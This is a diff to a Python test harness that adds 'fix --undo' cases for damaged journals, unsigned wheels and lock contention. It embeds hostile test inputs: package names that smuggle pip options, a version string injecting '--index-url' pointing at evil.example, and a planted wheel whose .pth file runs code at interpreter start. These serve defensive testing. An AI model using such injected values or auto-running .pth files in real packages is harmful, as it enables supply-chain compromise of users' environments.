@@ -29,6 +29,7 @@ import subprocess
 import sys
 import tempfile
 import time
+import zipfile
 from dataclasses import dataclass, field
 from pathlib import Path
 
@@ -274,7 +275,7 @@ def surface_cases(root: Path) -> list[Case]:
     root = _folder(root, "surfaces")
     return (_journal_cases(root) + _fleet_cases(root) + _overlay_cases(root) + _data_cases(root)
             + _terminal_cases(root) + _wait_cases(root) + _driver_words_cases(root)
-            + _mirror_cases(root) + _child_output_cases(root) + _consent_cases(root))
+            + _mirror_cases(root) + _child_output_cases(root) + _consent_cases(root) + _undo_cases(root))
 
 
 def _bare_python(root: Path) -> str:
@@ -395,6 +396,69 @@ def _consent_cases(root: Path) -> list[Case]:
     out.append(Case("consent: fix with no framework installed", ["fix", "--python", py, "--json"],
                     env={"XDG_STATE_HOME": str(state)}, json=True))
     out.append(Case("consent: verify with no framework installed", ["verify", "--python", py, "--json"], json=True))
+
+
+def _kept(state: Path, python: str, doc: dict) -> Path:
+    """The journal of a completed change of ``python`` (``<folder>.last``, what ``fix --undo`` reads)."""
+    path = _journal(state, python)
+    last = path.parent.with_name(path.parent.name + ".last")
+    path.parent.rename(last)
+    (last / "journal.json").write_text(json.dumps(doc))
+    (last / "journal.json").chmod(0o600)
+    return last
+
+
+def _undo_cases(root: Path) -> list[Case]:
+    """Round three (issue 42): ``fix --undo`` on a damaged kept journal, names that are not packages, saved wheels
+    nobody signed (one with a .pth that would run), and a second run while another holds the interpreter's lock."""
+    py = _bare_python(root)
+    out: list[Case] = []
+    docs = {"after a string": {"after": "x"}, "after of numbers": {"after": [1]},
+            "after without versions": {"after": [{"name": "a"}]}, "after a map": {"after": {"a": "1"}},
+            "before -r": {"before": [{"name": "-r", "version": "1.0"}]},
+            "before --pre": {"before": [{"name": "--pre", "version": "1.0"}]},
+            "version an option": {"before": [{"name": "a", "version": "1.0 --index-url=http://evil.example/s"}]},
+            "hashes not hashes": {"sha256": {"a.whl": "zz"}}}
+    for label, changes in docs.items():
+        for action in (["--dry-run"], ["--yes", "--no-verify"]):
+            state = _folder(root, f"state-undo-{label.replace(' ', '-')}-{action[0][2:]}")
+            _kept(state, py, _journal_doc(py, **{"state": "completed", "after": [], **changes}))
+            out.append(Case(f"undo journal {label}: fix --undo {action[0]}", ["fix", "--undo", *action, "--python",
+                                                                               py, "--json"],
+                            env={"XDG_STATE_HOME": str(state)}, json=True))
+    marker = str(root / "ran-undo-pth")
+    wheels = root / "undo-evil"
+    wheels.mkdir()
+    evil = wheels / "mut_a-1.0-py3-none-any.whl"
+    with zipfile.ZipFile(evil, "w") as zf:  # a planted wheel whose .pth would run at every interpreter start
+        zf.writestr("zz.pth", f"import os; open({marker!r}, 'w')\n")
+        zf.writestr("mut_a-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: mut-a\nVersion: 1.0\n")
+        zf.writestr("mut_a-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
+        zf.writestr("mut_a-1.0.dist-info/RECORD", "")
+    for action in (["--dry-run"], ["--yes", "--no-verify"]):
+        state = _folder(root, f"state-undo-unsigned-{action[0][2:]}")
+        last = _kept(state, py, _journal_doc(py, state="completed", after=[], before=[
+            {"name": "mut-a", "version": "1.0"}], sha256={evil.name: "0" * 64}))
+        (last / "wheels").mkdir(mode=0o700)
+        shutil.copy(evil, last / "wheels" / evil.name)
+        out.append(Case(f"undo journal unsigned, a planted wheel: fix --undo {action[0]}",
+                        ["fix", "--undo", *action, "--python", py, "--json"], env={"XDG_STATE_HOME": str(state)},
+                        json=True, absent=[marker]))
+    state = _folder(root, "state-undo-locked")
+    holder = subprocess.Popen([sys.executable, "-c", "import sys, time\nfrom cudamatrix.install import journal\n"
+                               "held = journal.hold(sys.argv[1])\ntime.sleep(3600)\n", py],
+                              env={**os.environ, "XDG_STATE_HOME": str(state)}, start_new_session=True)
+    BYSTANDERS[holder.pid] = holder
+    import hashlib
+
+    lock = state / "cudamatrix" / "journal" / (hashlib.sha256(os.path.abspath(py).encode()).hexdigest()[:16] + ".lock")
+    deadline = time.monotonic() + 60
+    while (not lock.exists() or not lock.stat().st_size) and holder.poll() is None and time.monotonic() < deadline:
+        time.sleep(0.05)
+    for action in (["fix", "--undo", "--yes"], ["fix", "--rollback", "--yes"], ["fix", "--yes", "--no-verify"]):
+        out.append(Case(f"locked by another run: {' '.join(action)}", [*action, "--python", py, "--json"],
+                        env={"XDG_STATE_HOME": str(state)}, json=True, alive=holder.pid,
+                        forbid=['"exit_code": 0']))
     return out
 
 
